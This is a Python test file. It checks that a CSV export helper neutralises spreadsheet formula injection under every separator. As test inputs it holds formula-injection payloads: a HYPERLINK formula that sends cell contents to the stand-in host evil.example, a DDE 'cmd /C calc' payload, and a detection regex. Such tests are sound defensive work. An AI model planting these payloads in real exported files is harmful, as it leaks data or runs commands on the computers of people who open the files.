"""No cell of a table of ours is a formula, whichever separator a spreadsheet takes; and
ordinary texts stay as they are.
"""

import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from dpmf_core.runs.spreadsheets import harmless
from pages.kit.safe_text import to_csv

SEPARATORS = ",;\t| :"
FORMULA = re.compile(
    r"[\s\"\ufeff\u200b]*[=+\-@＝＋－＠](?![\d.,%\seE+-]*[)\]}>?,;:|])(?=.*[^\d.,%\s;:|eE+\"-])"
)
LURE = '=HYPERLINK("http://evil.example/?"&A1;"more")'


def cells(text: str, separator: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


@pytest.mark.parametrize(
    "before",
    [
        "",
        "x;",
        "x\t",
        "x|",
        "x ",
        "x; ",
        'x;"',
        "x\n",
        "x\r\n",
        "x,",
        "\ufeff",
        " ",
        "\x00;",
        "x；",
        "1;",
        "-1;",
    ],
)
@pytest.mark.parametrize(
    "lure",
    [LURE, "=1+cmd|' /C calc'!A0", "+A1", "-2+A1", "@SUM(A1)", "= HYPERLINK(A1)", "＝A1", "=-A1"],
)
def test_a_formula_is_none_wherever_it_stands(before: str, lure: str) -> None:
    if before in ("x ", " ") and lure[1] == " ":
        return  # split at blanks this is a lone sign
    text = to_csv(pd.DataFrame({f"{before}{lure}": [f"{before}{lure}"], "next": ["plain"]}))
    for separator in SEPARATORS:
        assert not [cell for cell in cells(text, separator) if FORMULA.match(cell)], (
            separator,
            text,
        )


@settings(max_examples=400, deadline=None, derandomize=True)
@given(
    st.text("aA1 =+-@;,\t|\"'\n(!.%e:~&＝\ufeff", max_size=12), st.text("a1=-;,\t \"'@", max_size=6)
)
@example("x;-1,=A", "")
def test_no_text_at_all_is_one(first: str, second: str) -> None:
    text = to_csv(pd.DataFrame({"one": [first], "two": [second]}))
    for separator in ",;\t|":
        assert not [cell for cell in cells(text, separator) if FORMULA.match(cell)], (
            separator,
            text,
        )
    for cell in (first, second):  # and where somebody splits the cell itself
        assert not [
            part for part in re.split(r"[;,|\t ]", harmless(cell)) if FORMULA.match(part)
        ], harmless(cell)
